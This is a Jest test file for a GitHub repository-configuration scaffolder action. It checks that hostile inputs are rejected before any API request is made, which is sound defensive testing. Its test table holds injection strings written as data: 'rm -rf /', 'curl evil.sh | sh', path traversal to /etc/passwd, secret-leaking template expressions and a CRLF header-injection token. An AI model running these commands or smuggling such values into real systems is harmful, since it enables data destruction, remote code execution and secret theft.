import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {
  createTestContext,
  failureOf,
  githubIntegrations,
} from './__testUtils__/actionTestKit';
import {
  baseInput,
  INTEGRATION_TOKEN,
} from './__testUtils__/configureRepositoryFixture';
import { setupGithubApiMock } from './__testUtils__/githubApiMock';
import { createConfigureGithubRepositoryAction } from './configureRepository';

/*
 * No handler is registered here: any request the action made would fail the
 * test through msw's unhandled-request error and the request counter.
 */
describe('localplus:github:configure-repository input checks', () => {
  const github = setupGithubApiMock();
  const action = createConfigureGithubRepositoryAction({
    integrations: githubIntegrations(INTEGRATION_TOKEN),
  });

  let workspacePath: string;
  beforeAll(async () => {
    workspacePath = await fs.mkdtemp(path.join(os.tmpdir(), 'configure-repo-'));
  });
  afterAll(() => fs.rm(workspacePath, { recursive: true, force: true }));
  const context = (input: object) => createTestContext(input, workspacePath);

  describe('refuses hostile input before any request', () => {
    it.each([
      ['repoUrl', 'github.com?owner=localplus&repo=../../etc/passwd'],
      ['repoUrl', 'github.com?owner=localplus&repo=$(rm -rf /)'],
      ['repoUrl', 'github.com?owner=localplus&repo=svc-x;reboot'],
      ['repoUrl', 'github.com?owner=LocalPlus&repo=svc-ledger'],
      ['repoUrl', 'github.com?owner=localplus&repo=Svc-Ledger'],
      ['repoUrl', `github.com?owner=localplus&repo=${'a'.repeat(200)}`],
      ['repoUrl', 'evil.example.com?owner=localplus&repo=svc-ledger'],
      ['repoUrl', 'github.com?owner=localplus'],
      ['repoUrl', '${{ parameters.repoUrl }}'],
      ['team', '$(rm -rf /)'],
      ['team', '${{ secrets.GITHUB_TOKEN }}'],
      ['team', 'payments;team'],
      ['team', '`id`'],
      ['team', '../admins'],
      ['team', 'Payments-Team'],
      ['team', 'a'.repeat(200)],
      ['team', ''],
      ['permission', 'pull'],
      ['permission', 'admin; rm -rf /'],
      ['topics[0]', ['Java']],
      ['topics[1]', ['ok', 'a'.repeat(51)]],
      ['topics[0]', ['${{ x }}']],
      ['topics[0]', ['two words']],
      ['topics', Array.from({ length: 21 }, (_, i) => `topic-${i}`)],
      ['requiredApprovals', 0],
      ['requiredApprovals', 7],
      ['requiredApprovals', 1.5],
      ['requiredApprovals', '1'],
      ['requiredStatusChecks[0]', ['ci; curl evil.sh | sh']],
      ['requiredStatusChecks[0]', ['`id`']],
      ['requiredStatusChecks[0]', ['${{ github.token }}']],
      ['requiredStatusChecks[0]', ['a'.repeat(200)]],
      ['branch', '../main'],
      ['branch', 'main.lock'],
      ['branch', '$(whoami)'],
    ])('%s = %j', async (field, value) => {
      const { ctx } = context({
        ...baseInput,
        [field.replace(/\[.*$/, '')]: value,
      });

      const failure = action.handler(ctx);

      await expect(failure).rejects.toThrow(
        new RegExp(`(^|: )${field.replace(/[[\]]/g, '\\$&')}: `),
      );
      expect(github.requestCount()).toBe(0);
    });

    it('names a missing team as required', async () => {
      const { ctx } = context({ repoUrl: baseInput.repoUrl });

      await expect(action.handler(ctx)).rejects.toThrow(/team: is required/);
      expect(github.requestCount()).toBe(0);
    });

    it('rejects a token that could split a header, without repeating it', async () => {
      const token = 'ghp_secretvalue\r\nX-Injected: 1';
      const { ctx } = context({ ...baseInput, token });

      const error = await failureOf(action.handler(ctx));

      expect(error.message).toMatch(
        /token: must not contain spaces or control characters/,
      );
      expect(error.message).not.toContain('ghp_secretvalue');
      expect(github.requestCount()).toBe(0);
    });
  });

  it('names the integrations.github host that lacks a token', async () => {
    const withoutToken = createConfigureGithubRepositoryAction({
      integrations: githubIntegrations(undefined),
    });
    const { ctx } = context(baseInput);

    await expect(withoutToken.handler(ctx)).rejects.toThrow(
      'No GitHub credentials for github.com: configure a token or a GitHub App for it under integrations.github, or pass the token input',
    );
    expect(github.requestCount()).toBe(0);
  });
});
